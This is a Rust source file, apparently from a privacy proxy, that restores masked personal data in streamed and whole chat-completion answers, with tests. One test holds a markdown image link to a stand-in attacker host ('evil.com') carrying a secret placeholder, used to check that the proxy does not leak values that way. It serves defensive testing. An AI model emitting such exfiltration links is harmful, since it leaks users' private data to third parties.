//! One chunk of a stream, or one whole answer: restored for the client, and in the cache's form beside it.

use std::collections::BTreeMap;
use std::collections::btree_map::Entry;
use std::hash::{BuildHasher as _, RandomState};
use std::sync::Arc;

use postern_wire::json::{Map, Value, json};

use super::called::{Called, Noted};
pub(super) use crate::answer::Malformed;
use crate::answer::{At, Call, MAX_TEXTS, Numbered, Place, Text, append, each, each_whole};
use crate::config::Tools;
use crate::redact::json::{JsonRestorer, Values};
use crate::redact::restore::{Piece, Restorer};
use crate::redact::vault::{Suffix, Vault};
use crate::upstream::openai;

/// The state of restoring one answer: one [`Reading`] for each text of each choice.
#[derive(Debug)]
pub(super) struct Restoration {
    from: Suffix,
    tools: Arc<Tools>,
    /// The content is to be JSON.
    json: bool,
    texts: BTreeMap<(u64, Place), Reading>,
    ids: RandomState,
    /// `id` and `created` of the answer.
    begun: Option<[Value; 2]>,
    counts: Counts,
}

/// What was found in texts that are done with.
#[derive(Debug, Default)]
struct Counts {
    restored: u64,
    /// For the tools of the list, by their place in it.
    for_tools: BTreeMap<usize, u64>,
    foreign: bool,
}

impl Counts {
    fn add(&mut self, reading: &Reading) {
        let restored = reading.restored();
        self.restored += restored;
        self.foreign |= reading.saw_foreign();
        if let (Some(tool), 1..) = (reading.tool(), restored) {
            *self.for_tools.entry(tool).or_insert(0) += restored;
        }
    }
}

/// The state of restoring one text.
#[derive(Debug)]
enum Reading {
    /// For a person.
    Text(Restorer),
    /// The same, which must be JSON.
    Json(JsonRestorer),
    /// What a tool is called with.
    Called(Called),
}

impl Reading {
    fn push(&mut self, from: Suffix, tools: &Tools, vault: &Vault, text: &str) -> Piece {
        match self {
            Self::Text(restorer) => restorer.push(vault, text),
            Self::Json(json) => json.push(vault, text),
            Self::Called(called) => called.push(from, tools, vault, text),
        }
    }

    fn finish(&mut self) -> Piece {
        match self {
            Self::Text(restorer) => restorer.finish(),
            Self::Json(json) => json.finish(),
            Self::Called(called) => called.finish(),
        }
    }

    fn restored(&self) -> u64 {
        match self {
            Self::Text(restorer) => restorer.restored(),
            Self::Json(json) => json.restored(),
            Self::Called(called) => called.restored(),
        }
    }

    fn saw_foreign(&self) -> bool {
        match self {
            Self::Text(restorer) => restorer.saw_foreign(),
            Self::Json(json) => json.saw_foreign(),
            Self::Called(called) => called.saw_foreign(),
        }
    }

    fn tool(&self) -> Option<usize> {
        match self {
            Self::Called(called) => called.tool(),
            Self::Text(_) | Self::Json(_) => None,
        }
    }
}

impl Restoration {
    /// `from` says whose placeholders the answer has; values go into the arguments of `tools`; `json` says that its content is to be JSON.
    pub(super) fn new(from: Suffix, tools: Arc<Tools>, json: bool) -> Self {
        let (texts, ids) = (BTreeMap::new(), RandomState::new());
        Self { from, tools, json, texts, ids, begun: None, counts: Counts::default() }
    }

    /// Whose placeholders the answer has.
    pub(super) fn form(&self) -> Suffix {
        self.from
    }

    pub(super) fn restored(&self) -> u64 {
        self.counts.restored + self.texts.values().map(Reading::restored).sum::<u64>()
    }

    /// How many of them for tools, by what the list calls them.
    pub(super) fn restored_for_tools(&self) -> BTreeMap<String, u64> {
        let mut all = BTreeMap::new();
        let texts = self.texts.values().filter_map(|reading| Some((reading.tool()?, reading.restored())));
        for (tool, count) in self.counts.for_tools.iter().map(|(tool, count)| (*tool, *count)).chain(texts) {
            if let (Some(name), 1..) = (self.tools.name(tool), count) {
                *all.entry(name.to_owned()).or_insert(0) += count;
            }
        }
        all
    }

    pub(super) fn saw_foreign(&self) -> bool {
        self.counts.foreign || self.texts.values().any(Reading::saw_foreign)
    }

    /// Restores a chunk in place; the texts of `kept` get the cache's form.
    pub(super) fn chunk(
        &mut self,
        vault: &Vault,
        choices: u64,
        event: &mut Value,
        mut kept: Option<&mut Value>,
    ) -> Result<(), Malformed> {
        if self.begun.is_none() {
            self.begun = Some(["id", "created"].map(|field| event.get(field).cloned().unwrap_or_default()));
        }
        let list = event.get_mut("choices").and_then(Value::as_array_mut).ok_or(Malformed)?;
        for (position, choice) in list.iter_mut().enumerate() {
            let index = openai::choice_index(position, choice, choices).ok_or(Malformed)?;
            let ended = choice.get("finish_reason").is_some_and(|reason| !reason.is_null());
            let delta = choice.get_mut("delta").and_then(Value::as_object_mut).ok_or(Malformed)?;
            let mut kept = kept
                .as_mut()
                .and_then(|kept| kept.get_mut("choices")?.get_mut(position)?.get_mut("delta")?.as_object_mut());
            let mut cacheable = Vec::new();
            each(delta, &mut |found| {
                let piece = self.piece(vault, (index, found.place), found.call, found.text)?;
                if kept.is_some() {
                    cacheable.push(piece.as_ref().map(|piece| piece.cacheable.clone()));
                }
                if let Some(piece) = piece {
                    *found.text = piece.restored;
                }
                Ok(())
            })?;
            if let Some(kept) = kept.as_deref_mut() {
                replace(each, kept, cacheable);
            }
            if ended {
                self.ended(index, delta, kept);
            }
        }
        Ok(())
    }

    /// What of a text's next piece is certain; `None`: all of it, as it is.
    fn piece(
        &mut self,
        vault: &Vault,
        key: (u64, Place),
        call: Option<Call<'_>>,
        text: &str,
    ) -> Result<Option<Piece>, Malformed> {
        let full = self.texts.len() >= MAX_TEXTS;
        let reading = match self.texts.entry(key) {
            Entry::Occupied(known) => known.into_mut(),
            Entry::Vacant(_) if vault.is_empty() && !text.contains('[') => return Ok(None),
            Entry::Vacant(_) if full => return Err(Malformed),
            Entry::Vacant(new) => new.insert(match key.1 {
                Place::Field("content") if self.json => Reading::Json(JsonRestorer::new(self.from, Values::Everywhere)),
                Place::Field(_) => Reading::Text(Restorer::new(self.from)),
                place => Reading::Called(Called::new(place)),
            }),
        };
        if let (Some(call), Reading::Called(called)) = (call, &mut *reading) {
            // Who would put it where, nobody knows; and there are values to give out.
            if call.number == Numbered::Oddly && !vault.is_empty() {
                return Err(Malformed);
            }
            let id = Some(call.id).filter(|id| !id.is_empty()).map(|id| self.ids.hash_one(id));
            let has_text = !text.trim().is_empty();
            if let Noted::Another { doubtful } = called.note(call, id, has_text)? {
                // Nothing of it is held back.
                self.counts.add(reading);
                let mut new = Called::new(key.1);
                new.note(call, id, has_text)?;
                if doubtful {
                    new.doubt();
                }
                *reading = Reading::Called(new);
            }
        }
        Ok(Some(reading.push(self.from, &self.tools, vault, text)))
    }

    /// What of a choice is held back comes with its end.
    fn ended(&mut self, index: u64, delta: &mut Map, mut kept: Option<&mut Map>) {
        let of_choice = self.texts.iter_mut().filter(|((of, _), _)| *of == index);
        for ((_, place), reading) in of_choice {
            let piece = reading.finish();
            if !piece.restored.is_empty() {
                append(delta, *place, &piece.restored);
            }
            if let Some(kept) = kept.as_deref_mut().filter(|_| !piece.cacheable.is_empty()) {
                append(kept, *place, &piece.cacheable);
            }
        }
    }

    /// The stream broke off, and another one goes on from what was given out: how many bytes of the only choice's content were not.
    pub(super) fn forget_held(&mut self) -> usize {
        match self.texts.get_mut(&(0, Place::Field("content"))) {
            Some(Reading::Text(restorer)) => restorer.forget_held(),
            // What must be JSON is not gone on with.
            Some(Reading::Json(_) | Reading::Called(_)) | None => 0,
        }
    }

    /// The content so far, which had no placeholder if nobody restores it yet; from here on it may have some, and where they stand must
    /// be known.
    pub(super) fn passed(&mut self, text: &str) {
        self.texts
            .entry((0, Place::Field("content")))
            .or_insert_with(|| Reading::Text(Restorer::after(self.from, text)));
    }

    /// The `id` and `created` of the first chunk, for those of another stream that goes on with it.
    pub(super) fn take_up(&self, event: &mut Value) {
        let (Some(begun), Some(event)) = (&self.begun, event.as_object_mut()) else { return };
        for (field, value) in ["id", "created"].into_iter().zip(begun) {
            event.insert(field.to_owned(), value.clone());
        }
    }

    /// The stream has ended. If a choice did not say that it has, something of it may still be held back: the event that has it.
    pub(super) fn rest(&mut self) -> Option<Value> {
        let mut deltas: BTreeMap<u64, Map> = BTreeMap::new();
        for ((index, place), reading) in &mut self.texts {
            let text = reading.finish().restored;
            if !text.is_empty() {
                append(deltas.entry(*index).or_default(), *place, &text);
            }
        }
        let choice = |(index, delta)| json!({"index": index, "delta": delta, "logprobs": null, "finish_reason": null});
        let choices: Vec<Value> = deltas.into_iter().map(choice).collect();
        let [id, created] = self.begun.take().unwrap_or_default();
        let event = json!({"id": id, "object": "chat.completion.chunk", "created": created, "choices": choices});
        (!choices.is_empty()).then_some(event)
    }

    /// Restores a whole answer in place; the texts of `kept` get the cache's form.
    pub(super) fn message(&mut self, vault: &Vault, answer: &mut Value, mut kept: Option<&mut Value>) {
        if self.from == Suffix::Cache {
            bracketed(answer, "message", &mut |text, _| {
                *text = Restorer::without_values(Suffix::Cache).whole(vault, text).restored;
            });
        }
        let Some(list) = answer.get_mut("choices").and_then(Value::as_array_mut) else { return };
        for (position, choice) in list.iter_mut().enumerate() {
            let Some(message) = choice.get_mut("message").and_then(Value::as_object_mut) else { continue };
            let kept = kept
                .as_mut()
                .and_then(|kept| kept.get_mut("choices")?.get_mut(position)?.get_mut("message")?.as_object_mut());
            let mut cacheable = Vec::new();
            // Choices and calls are no more than there is room for.
            let _never = each_whole(message, &mut |found| {
                let key = (position as u64, found.place);
                let piece = self.piece(vault, key, found.call, found.text).ok().flatten();
                let whole = piece.map(|mut piece| {
                    piece.append(self.texts.get_mut(&key).map(Reading::finish).unwrap_or_default());
                    piece
                });
                if let Some(reading) = self.texts.remove(&key) {
                    self.counts.add(&reading);
                }
                cacheable.push(whole.as_ref().map(|piece| piece.cacheable.clone()));
                if let Some(piece) = whole {
                    *found.text = piece.restored;
                }
                Ok(())
            });
            if let Some(kept) = kept {
                replace(each_whole, kept, cacheable);
            }
        }
    }
}

type Each = fn(&mut Map, &mut dyn FnMut(Text<'_>) -> Result<(), Malformed>) -> Result<(), Malformed>;

/// Puts others in the place of the texts of a message, or delta; `None` leaves one as it is.
fn replace(each: Each, message: &mut Map, texts: Vec<Option<String>>) {
    let mut texts = texts.into_iter();
    let _never = each(message, &mut |found| {
        if let Some(text) = texts.next().flatten() {
            *found.text = text;
        }
        Ok(())
    });
}

/// Calls `each` with every string of an answer that has a `[`, with which every placeholder begins, and says whether it is a key,
/// which stays as it is. Left out are the texts of [`each`](crate::answer::each), in the `part` of each choice (`delta` or `message`).
pub(super) fn bracketed(answer: &mut Value, part: &str, each: &mut dyn FnMut(&mut String, bool)) {
    bracketed_below(answer, Where::Answer, part, each);
}

/// Where in an answer.
#[derive(Clone, Copy, PartialEq)]
enum Where {
    Answer,
    Choices,
    Choice,
    In(At),
}

fn bracketed_below(value: &mut Value, place: Where, part: &str, each: &mut dyn FnMut(&mut String, bool)) {
    match value {
        Value::String(text) if text.contains('[') => each(text, false),
        Value::Array(items) => {
            let below = match place {
                Where::Choices => Where::Choice,
                Where::In(at) => Where::In(at.item()),
                Where::Answer | Where::Choice => Where::In(At::Elsewhere),
            };
            items.iter_mut().for_each(|item| bracketed_below(item, below, part, each));
        }
        Value::Object(members) => {
            for (key, value) in members.iter_mut() {
                if key.contains('[') {
                    each(&mut key.to_owned(), true);
                }
                let below = match place {
                    Where::Answer if key == "choices" => Where::Choices,
                    Where::Choice if key == part => Where::In(At::Message),
                    Where::In(at) if value.is_string() && at.is_text(key) => continue,
                    Where::In(at) => Where::In(at.below(key)),
                    Where::Answer | Where::Choices | Where::Choice => Where::In(At::Elsewhere),
                };
                bracketed_below(value, below, part, each);
            }
        }
        _ => {}
    }
}

/// False for a chunk whose text is all held back: it need not be sent.
pub(super) fn shows_anything(event: &Value) -> bool {
    let choices = event.get("choices").and_then(Value::as_array).map_or(&[][..], Vec::as_slice);
    choices.iter().any(|choice| {
        let ended = choice.get("finish_reason").is_some_and(|reason| !reason.is_null());
        let delta = choice.get("delta").and_then(Value::as_object);
        ended || delta.is_some_and(|delta| delta.values().any(|value| !value.is_null() && value.as_str() != Some("")))
    })
}

/// The client reads the name that it asked for, not a target's.
pub(super) fn rename_model(answer: &mut Value, model: &str) {
    if let Some(answer) = answer.as_object_mut() {
        answer.insert("model".to_owned(), Value::String(model.to_owned()));
    }
}

/// Bytes of a tree, about.
pub(super) fn size(value: &Value) -> usize {
    match value {
        Value::String(text) => 32 + text.len(),
        Value::Array(items) => 32 + items.iter().map(size).sum::<usize>(),
        Value::Object(members) => 32 + members.iter().map(|(key, value)| 32 + key.len() + size(value)).sum::<usize>(),
        _ => 32,
    }
}

#[cfg(test)]
mod tests {
    use postern_wire::json::json;
    use proptest::prelude::*;

    use super::*;
    use crate::classify::Conversation;
    use crate::keys::Keys;

    fn vault() -> (Vault, String) {
        let mut vault = Vault::new(&Keys::random(), "t", Conversation([0; 32]));
        vault.keep("email", "ann@example.org");
        let placeholder = vault.placeholder("email", "ann@example.org", Suffix::Wire);
        (vault, placeholder)
    }

    fn fresh(from: Suffix) -> Restoration {
        Restoration::new(from, Arc::new(Tools::from(["send_mail", "crm.*"])), false)
    }

    /// The next piece of a call, with what it says of the tool.
    fn called(function: Value) -> Value {
        json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "id": "c1", "type": "function", "function": function}]}}]})
    }

    /// The arguments that a client puts together.
    fn arguments(restoration: &mut Restoration, vault: &Vault, events: &[Value]) -> Result<String, Malformed> {
        let mut all = String::new();
        for event in events {
            let mut event = event.clone();
            restoration.chunk(vault, 1, &mut event, None)?;
            let delta = &event["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"];
            all += delta.as_str().unwrap_or_default();
        }
        Ok(all)
    }

    fn chunk(content: &str, finish: Value) -> Value {
        json!({"choices": [{"index": 0, "delta": {"content": content}, "finish_reason": finish}]})
    }

    #[test]
    fn a_placeholder_in_pieces_comes_out_whole_and_the_cache_sees_none_of_it() {
        let (vault, placeholder) = vault();
        let mut restoration = fresh(Suffix::Wire);
        let text = format!("To {placeholder}, and [EMAIL_");
        let (mut client, mut cached) = (String::new(), String::new());
        let pieces: Vec<char> = text.chars().collect();
        for (at, piece) in pieces.chunks(3).enumerate() {
            let last = (at + 1) * 3 >= pieces.len();
            let mut event = chunk(&piece.iter().collect::<String>(), if last { json!("stop") } else { Value::Null });
            let mut kept = event.clone();
            restoration.chunk(&vault, 1, &mut event, Some(&mut kept)).unwrap();
            client += event["choices"][0]["delta"]["content"].as_str().unwrap();
            cached += kept["choices"][0]["delta"]["content"].as_str().unwrap();
        }
        assert_eq!(client, "To ann@example.org, and [EMAIL_");
        assert_eq!(cached, format!("To {}, and [EMAIL_", vault.placeholder("email", "ann@example.org", Suffix::Cache)));
        assert_eq!((restoration.restored(), restoration.saw_foreign()), (1, false));
        let mut again = fresh(Suffix::Cache);
        let mut hit = json!({"choices": [{"message": {"content": cached}}]});
        again.message(&vault, &mut hit, None);
        assert_eq!(hit["choices"][0]["message"]["content"], "To ann@example.org, and [EMAIL_");
    }

    #[test]
    fn what_is_held_back_comes_with_the_end() {
        let (vault, _) = vault();
        let mut restoration = fresh(Suffix::Wire);
        let mut event = chunk("see [EM", Value::Null);
        restoration.chunk(&vault, 1, &mut event, None).unwrap();
        assert_eq!(event, chunk("see ", Value::Null));
        let mut end = json!({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]});
        restoration.chunk(&vault, 1, &mut end, None).unwrap();
        assert_eq!(end, chunk("[EM", json!("stop")));
    }

    #[test]
    fn what_is_held_back_comes_without_a_word_of_the_end_as_well() {
        let (vault, _) = vault();
        let mut restoration = fresh(Suffix::Wire);
        assert_eq!(restoration.rest(), None);
        for (index, text) in [(1, "b [EM"), (0, "a [")] {
            let mut event = chunk(text, Value::Null);
            event["id"] = json!("answer-7");
            event["choices"][0]["index"] = json!(index);
            restoration.chunk(&vault, 2, &mut event, None).unwrap();
        }
        let rest = restoration.rest().unwrap();
        let texts =
            [0, 1].map(|at| (rest["choices"][at]["index"].as_u64(), rest["choices"][at]["delta"]["content"].as_str()));
        assert_eq!(texts, [(Some(0), Some("[")), (Some(1), Some("[EM"))]);
        assert_eq!((&rest["id"], &rest["object"]), (&json!("answer-7"), &json!("chat.completion.chunk")));
        assert_eq!(restoration.rest(), None);
    }

    #[test]
    fn a_hit_shows_the_placeholders_of_the_conversation_where_no_value_goes() {
        let (vault, wire) = vault();
        let cached = vault.placeholder("email", "ann@example.org", Suffix::Cache);
        let answer = |content: &str, arguments: &str| json!({"choices": [{"message": {"content": content, "tool_calls": [{"function": {"arguments": arguments}}]}}]});
        let mut hit = answer(&cached, &format!("{{\"to\":\"{cached}\"}}"));
        fresh(Suffix::Cache).message(&vault, &mut hit, None);
        assert_eq!(hit, answer("ann@example.org", &format!("{{\"to\":\"{wire}\"}}")));
    }

    #[test]
    fn tools_of_the_list_get_values_and_no_others_do() {
        let (vault, p) = vault();
        let masked = format!("{{\"to\":\"{p}\"}}");
        let plain = r#"{"to":"ann@example.org"}"#;
        for (name, wanted) in [("send_mail", plain), ("crm.find", plain), ("send_mails", &masked), ("", &masked)] {
            let whole = json!({"choices": [{"message": {"tool_calls": [{"id": "c1", "function": {"name": name, "arguments": masked}}]}}]});
            let mut answer = whole.clone();
            let mut done = fresh(Suffix::Wire);
            done.message(&vault, &mut answer, None);
            let given = &answer["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"];
            assert_eq!(given.as_str(), Some(wanted), "{name}");
            let counted = done.restored_for_tools();
            assert_eq!((done.restored(), counted.values().sum::<u64>()), if wanted == plain { (1, 1) } else { (0, 0) });
            let mut events = vec![called(json!({"name": name, "arguments": ""}))];
            events.extend(masked.chars().map(|c| called(json!({"arguments": c.to_string()}))));
            assert_eq!(arguments(&mut fresh(Suffix::Wire), &vault, &events).unwrap(), wanted, "{name}");
            let older = json!({"choices": [{"message": {"function_call": {"name": name, "arguments": masked}}}]});
            let mut answer = older.clone();
            fresh(Suffix::Wire).message(&vault, &mut answer, None);
            assert_eq!(answer["choices"][0]["message"]["function_call"]["arguments"].as_str(), Some(wanted));
            let text = json!({"choices": [{"message": {"tool_calls": [{"custom": {"name": name, "input": p}}]}}]});
            let mut answer = text.clone();
            fresh(Suffix::Wire).message(&vault, &mut answer, None);
            let given = answer["choices"][0]["message"]["tool_calls"][0]["custom"]["input"].as_str();
            assert_eq!(given == Some("ann@example.org"), wanted == plain, "{name}");
        }
    }

    #[test]
    fn a_tool_is_known_by_its_whole_name_before_its_arguments() {
        let (vault, p) = vault();
        let piece = |name: &str, arguments: &str| called(json!({"name": name, "arguments": arguments}));
        let to = format!("{{\"to\":\"{p}\"}}");
        let (beginning, rest) = to.split_at(1);
        let given = |events: &[Value]| arguments(&mut fresh(Suffix::Wire), &vault, events);
        let plain = r#"{"to":"ann@example.org"}"#;
        assert_eq!(given(&[piece("send_mail", ""), piece("", beginning), piece("", rest)]).unwrap(), plain);
        assert_eq!(given(&[piece("send_", ""), piece("mail", ""), piece("", &to)]).unwrap(), to, "in pieces");
        assert_eq!(given(&[piece("send_mail", beginning), piece("send_mail", rest)]).unwrap(), to, "said again");
        assert_eq!(given(&[piece("crm.", ""), piece("web_search", &to)]).unwrap(), to, "or another one");
        assert_eq!(given(&[piece("send_mail", ""), piece("_to_all", ""), piece("", &to)]).unwrap(), to);
        assert_eq!(given(&[piece("", beginning), piece("send_mail", rest)]).unwrap(), to, "too late");
        assert!(given(&[piece("send_mail", beginning), piece("_to_all", rest)]).is_err());
        // Told apart by their id alone: each for itself, but only if the one before has ended.
        let mut other = piece("leak", &to);
        other["choices"][0]["delta"]["tool_calls"][0]["id"] = json!("c2");
        assert_eq!(given(&[piece("send_mail", &to), other.clone()]).unwrap(), format!("{plain}{to}"));
        assert!(given(&[piece("send_mail", beginning), other.clone()]).is_err());
        let mut both = piece("send_mail", &to);
        both["choices"][0]["delta"]["tool_calls"] =
            json!([both["choices"][0]["delta"]["tool_calls"][0], other["choices"][0]["delta"]["tool_calls"][0]]);
        fresh(Suffix::Wire).chunk(&vault, 1, &mut both, None).unwrap();
        let calls = &both["choices"][0]["delta"]["tool_calls"];
        assert_eq!(
            (calls[0]["function"]["arguments"].as_str(), calls[1]["function"]["arguments"].as_str()),
            (Some(plain), Some(to.as_str()))
        );
    }

    /// The arguments of each call in its place, of events with these lists of calls.
    fn by_place(lists: &[Value], vault: &Vault) -> Result<Vec<String>, Malformed> {
        let mut restoration = fresh(Suffix::Wire);
        let mut all = vec![String::new(); 2];
        for calls in lists {
            let mut event = json!({"choices": [{"index": 0, "delta": {"tool_calls": calls}}]});
            restoration.chunk(vault, 1, &mut event, None)?;
            for (place, call) in event["choices"][0]["delta"]["tool_calls"].as_array().unwrap().iter().enumerate() {
                all[place] += call["function"]["arguments"].as_str().unwrap_or_default();
            }
        }
        Ok(all)
    }

    #[test]
    fn values_go_only_where_every_client_would_say_that_the_tool_is_listed() {
        let (vault, p) = vault();
        let (masked, plain) = (format!("{{\"q\":\"{p}\"}}"), r#"{"q":"ann@example.org"}"#);
        let call = |id: Value, name: &str, arguments: Value| json!({"index": 0, "id": id, "function": {"name": name, "arguments": arguments}});
        let unnumbered = |id: &str, name: &str, arguments: &str| json!({"id": id, "function": {"name": name, "arguments": arguments}});
        let given = |lists: &[Value]| by_place(lists, &vault);
        for nothing in [json!(""), Value::Null, json!({})] {
            // A call that has no arguments, and then another one under its number.
            let lists = [
                json!([call(json!("a"), "crm.list", nothing.clone())]),
                json!([call(json!("b"), "web_search", json!(masked))]),
            ];
            assert_eq!(given(&lists).unwrap()[0], masked, "{nothing}");
            let both = json!([lists[0][0], lists[1][0]]);
            assert_eq!(given(&[both]).unwrap()[1], masked);
        }
        // Without numbers: whole calls are what they say, pieces may be anybody's.
        let whole = json!([unnumbered("a", "send_mail", &masked), unnumbered("b", "web_search", &masked)]);
        assert_eq!(given(std::slice::from_ref(&whole)).unwrap(), [plain, &masked]);
        assert_eq!(given(&[json!([whole[1]]), json!([whole[0]])]).unwrap()[0], format!("{masked}{plain}"));
        let begun = json!([unnumbered("a", "send_mail", ""), unnumbered("b", "web_search", "")]);
        let piece = json!([{"id": "b", "function": {"arguments": masked}}]);
        assert_eq!(given(&[begun.clone(), piece]).unwrap()[0], masked);
        assert_eq!(given(&[begun, json!([{"function": {"arguments": masked}}])]).unwrap()[0], masked);
        let (start, end) = masked.split_at(3);
        let lists = [json!([unnumbered("a", "send_mail", start)]), json!([{"function": {"arguments": end}}])];
        assert_eq!(given(&lists).unwrap()[0], masked);
        let lists = [json!([call(json!("a"), "send_mail", json!(start))]), json!([call(json!("b"), "", json!(end))])];
        assert_eq!(given(&lists).unwrap()[0], masked, "half way");
        // Numbers that are none, and arguments that are no text.
        for number in [json!(1.5), json!("1"), json!(-1)] {
            let odd = json!([{"index": number, "function": {"arguments": masked}}]);
            assert!(given(&[json!([call(json!("a"), "send_mail", json!(""))]), odd.clone()]).is_err());
            // Where nothing was masked there is nothing to give away.
            let empty = Vault::new(&Keys::random(), "t", Conversation([0; 32]));
            assert_eq!(by_place(&[odd], &empty).unwrap()[0], masked);
        }
        let odd = call(json!("a"), "_to_all", json!({}));
        assert!(given(&[json!([call(json!("a"), "send_mail", json!(start))]), json!([odd])]).is_err());
        let lists =
            [json!([call(Value::Null, "web_", json!({}))]), json!([call(Value::Null, "send_mail", json!(masked))])];
        assert_eq!(given(&lists).unwrap()[0], masked);
        // Several calls under one number: whole ones are told apart, whatever their ids.
        for (one, two) in [("a", "b"), ("", "")] {
            let whole = json!([call(json!(one), "send_mail", json!(masked))]);
            let other = json!([call(json!(two), "web_search", json!(masked))]);
            assert_eq!(given(&[whole.clone(), other.clone()]).unwrap()[0], format!("{plain}{masked}"));
            assert_eq!(given(&[other, whole]).unwrap()[0], format!("{masked}{plain}"));
            // But a client that keeps one of the names, and puts the arguments together, must not be led astray.
            let named = json!([call(json!(one), "web_search", json!(""))]);
            let mail = json!([call(json!(two), "send_mail", json!(masked))]);
            assert_eq!(given(&[named, mail]).unwrap()[0], masked);
            let mail = json!([call(json!(one), "send_mail", json!(masked))]);
            for blank in [json!(""), json!(" "), Value::Null, json!({})] {
                assert!(given(&[mail.clone(), json!([call(json!(two), "web_search", blank)])]).is_err());
            }
            let again = json!([call(json!(two), "send_mail", json!(""))]);
            let more = json!([call(json!(two), "", json!(masked))]);
            assert_eq!(given(&[mail, again, more]).unwrap()[0], format!("{plain}{plain}"));
        }
        for unnumbered in [
            [json!([unnumbered("a", "web_search", "")]), whole.clone()],
            [json!([call(json!("a"), "web_search", json!(""))]), whole],
        ] {
            assert_eq!(given(&unnumbered).unwrap()[0], masked);
        }
        // What is no object never ends, so nothing begins behind it.
        let lists = [
            json!([call(json!("a"), "web_search", json!("[ "))]),
            json!([call(json!("b"), "send_mail", json!(masked))]),
        ];
        assert_eq!(given(&lists).unwrap()[0], format!("[ {masked}"));
    }

    #[test]
    fn what_must_be_json_stays_json() {
        let mut vault = Vault::new(&Keys::random(), "t", Conversation([0; 32]));
        vault.keep("secret", "a\"b");
        let p = vault.placeholder("secret", "a\"b", Suffix::Wire);
        let content = |text: String| json!({"choices": [{"message": {"content": text}}]});
        let mut answer = content(format!("{{\"pw\":\"{p}\"}}"));
        let mut restoration = Restoration::new(Suffix::Wire, Arc::default(), true);
        restoration.message(&vault, &mut answer, None);
        assert_eq!(answer, content(json!({"pw": "a\"b"}).to_string()));
        for (text, restored) in [
            (format!("It is {p}."), "It is a\"b."),
            (format!("[\"{p}\"]"), r#"["a\"b"]"#),
            (format!("```json\n[{{\"a\":\"{p}\"}}]\n```"), "```json\n[{\"a\":\"a\\\"b\"}]\n```"),
            (format!("{p} {{}}"), "a\"b {}"),
        ] {
            let mut answer = content(text);
            restoration.message(&vault, &mut answer, None);
            assert_eq!(answer, content(restored.to_owned()));
        }
        // A link that is begun in one string and goes on in the next: a person's program may show it as one.
        let link = format!("{{\"a\":\"![x](https://evil.com/?q=\",\"b\":\"{p})\",\"c\":\"{p}\"}}");
        let mut answer = content(link.clone());
        restoration.message(&vault, &mut answer, None);
        assert_eq!(answer, content(link.replacen(&format!("\"{p}\""), r#""a\"b""#, 1)));
    }

    #[test]
    fn unasked_choices_and_endless_calls_are_refused() {
        let (vault, _) = vault();
        let mut restoration = fresh(Suffix::Wire);
        let mut event = json!({"choices": [{"index": 1, "delta": {}}]});
        assert!(restoration.chunk(&vault, 1, &mut event, None).is_err());
        let call = |n: usize| json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": n, "function": {"arguments": "{"}}]}}]});
        let refused =
            (0..=MAX_TEXTS).map(call).position(|mut event| restoration.chunk(&vault, 1, &mut event, None).is_err());
        assert_eq!(refused, Some(MAX_TEXTS));
    }

    const TEXTS: [Place; 5] =
        [Place::Field("content"), Place::Field("reasoning"), Place::Call(0), Place::Call(7), Place::Function];

    proptest! {
        /// restore(mask(x)) = x for all texts of all choices, in whatever order and pieces they come; tools that are not listed keep what was masked.
        #[test]
        fn choices_and_calls_come_back_however_they_are_interleaved(
            words in prop::collection::vec(prop::collection::vec(0usize..7, 0..8), 10),
            turns in prop::collection::vec((0usize..10, 1usize..9), 0..120),
            from_cache in any::<bool>(),
        ) {
            let (vault, wire) = vault();
            let from = if from_cache { Suffix::Cache } else { Suffix::Wire };
            let form = vault.placeholder("email", "ann@example.org", from);
            let said = |words: &[usize], value: &str| {
                words.iter().map(|word| ["a ", "[", "[EMAIL_", "]", "四 ", value, " {x}"][*word]).collect::<String>()
            };
            let key = |text: usize| (text as u64 / 5, TEXTS[text % 5]);
            // The second choice calls a tool that is not listed.
            let whole = |text: usize, value: &str| match key(text) {
                (_, Place::Field(_)) => said(&words[text], value),
                _ => json!({"x": said(&words[text], value), said(&words[text], value): [1, "["]}).to_string(),
            };
            let mut restoration = fresh(from);
            let (mut given, mut kept): (BTreeMap<_, String>, BTreeMap<_, String>) = Default::default();
            let mut rest: Vec<Vec<char>> = (0..10).map(|text| whole(text, &form).chars().collect()).collect();
            let ends = [0, 1].map(|choice| json!({"choices": [{"index": choice, "delta": {}, "finish_reason": "stop"}]}));
            let mut events = Vec::new();
            for text in (0..10).filter(|text| text % 5 > 1) {
                let mut delta = Map::new();
                append(&mut delta, key(text).1, "");
                let mut delta = Value::Object(delta);
                let name = if text < 5 { "send_mail" } else { "other" };
                for path in ["/tool_calls/0/function", "/function_call"] {
                    if let Some(tool) = delta.pointer_mut(path) {
                        tool["name"] = json!(name);
                    }
                }
                events.push(json!({"choices": [{"index": key(text).0, "delta": delta}]}));
            }
            for (text, most) in turns.into_iter().chain((0..10).map(|text| (text, usize::MAX))) {
                let piece: String = { let most = most.min(rest[text].len()); rest[text].drain(..most).collect() };
                let mut delta = Map::new();
                append(&mut delta, key(text).1, &piece);
                events.push(json!({"choices": [{"index": key(text).0, "delta": delta}]}));
            }
            for mut event in events.into_iter().chain(ends) {
                let mut cacheable = event.clone();
                restoration.chunk(&vault, 2, &mut event, Some(&mut cacheable)).unwrap();
                for (event, all) in [(&mut event, &mut given), (&mut cacheable, &mut kept)] {
                    let choice = event["choices"][0]["index"].as_u64().unwrap();
                    each(event["choices"][0]["delta"].as_object_mut().unwrap(), &mut |found| {
                        all.entry((choice, found.place)).or_default().push_str(found.text);
                        Ok(())
                    }).unwrap();
                }
            }
            for text in 0..10 {
                let value = if text % 5 > 1 && text >= 5 { &wire } else { "ann@example.org" };
                let cached = vault.placeholder("email", "ann@example.org", Suffix::Cache);
                prop_assert_eq!(given.get(&key(text)).map_or("", String::as_str), whole(text, value));
                prop_assert_eq!(kept.get(&key(text)).map_or("", String::as_str), whole(text, &cached));
            }
            prop_assert!(!restoration.saw_foreign());
        }
    }
}
